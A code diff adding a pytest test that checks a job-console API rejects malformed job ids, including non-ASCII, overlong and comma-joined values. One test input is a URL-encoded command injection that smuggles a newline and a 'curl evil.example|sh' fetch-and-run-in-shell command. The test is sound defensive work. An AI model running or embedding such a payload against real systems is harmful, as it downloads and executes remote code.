@@ -44,6 +44,14 @@ def test_a_result_is_told_with_all_its_scores(console: Open, streams: JobStreams
     assert page.get("/api/jobs?ids=nobody").json()["jobs"][0]["status"] == ""
 
 
+@pytest.mark.parametrize("asked", ["1%0Acurl%20evil.example|sh", "a,b%20c", "é", "a" * 129])
+def test_what_is_no_id_is_refused(asked: str, console: Open) -> None:
+    """A page shows the ids that its link has, and a command for each to be copied to a shell."""
+    answer = console().get(f"/api/jobs?ids={asked}")
+    assert (answer.status_code, answer.json()["error"]) == (400, "invalid_job")
+    assert "is the id of no job" in answer.json()["message"]
+
+
 def test_a_forged_hash_breaks_nothing(console: Open, client: Any, keys: Keys) -> None:
     """Whoever may write to Redis may write nonsense there."""
     page = console()
